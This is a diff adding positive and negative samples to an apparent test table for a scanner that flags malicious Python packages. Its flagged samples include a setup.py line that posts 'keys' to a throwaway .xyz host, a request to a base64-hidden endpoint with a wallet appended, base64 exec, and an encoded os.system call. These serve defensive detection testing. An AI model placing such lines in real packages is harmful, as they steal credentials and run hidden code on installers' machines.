@@ -44,6 +44,17 @@ RULES: dict[str, tuple[dict[str, str], dict[str, str]]] = {
                   {"setup.py": "u = 'https://docs.python.org/3/library/ipaddress.html'\n"}),
     "shady-tld-url": ({"setup.py": "u = 'https://update-check.xyz/a'\n"},
                       {"setup.py": "u = 'https://xyz.readthedocs.io/a'\n"}),
+    "hidden-endpoint": (
+        {"setup.py": "import base64, requests\n"
+                     "requests.get(base64.b64decode(KEY).decode() + wallet)\n"},
+        {"setup.py": "import base64, requests\n"
+                     "requests.get(URL, headers={'auth': base64.b64decode(TOKEN)})\n"}),
+    "throwaway-host-call": (
+        {"setup.py": "import requests\n"
+                     "requests.post('https://api.sdk-update.xyz/keys', json=keys)\n"},
+        {"setup.py": "import requests\n"
+                     "requests.post('https://api.example.com/v1/items', json=item)\n"
+                     "DOCS = 'https://update-check.xyz/a'\n"}),
     "url-shortener": ({"setup.py": "u = 'https://bit.ly/3abcde'\n"},
                       {"setup.py": "u = 'https://github.com/bitly/api'\n"}),
     "decode-exec": ({"setup.py": f"import base64\nexec(base64.b64decode('{B64_CMD}'))\n"},
@@ -130,6 +141,13 @@ RULES: dict[str, tuple[dict[str, str], dict[str, str]]] = {
         {"setup.py": SETUP + "exec(open('src/tidy/version.py').read())\n"
                      "long_description = open('README.md').read()\n",
          "src/tidy/version.py": "__version__ = '1.0'\n", "README.md": "# tidy\n"}),
+    "opaque-predicate": (
+        {"mod/__init__.py": "def f():\n" + "".join(
+            f"    if {a} == {b}:\n        print({a})\n"
+            for a, b in ((3745083, 3946893), (17, 23), (99, 98)))},
+        {"mod/__init__.py": "import sys\nDEBUG = 0\nif 0 == 1:\n    print('off')\n"
+                            "if sys.version_info[0] == 3:\n    text = str\n"
+                            "while DEBUG == 1:\n    break\n"}),
     "source-encoding": (
         {"setup.py": "# -*- coding: unicode_escape -*-\n"
                      + "".join(f"\\x{ord(c):02x}" for c in "import os\nos.system('id')\n")},
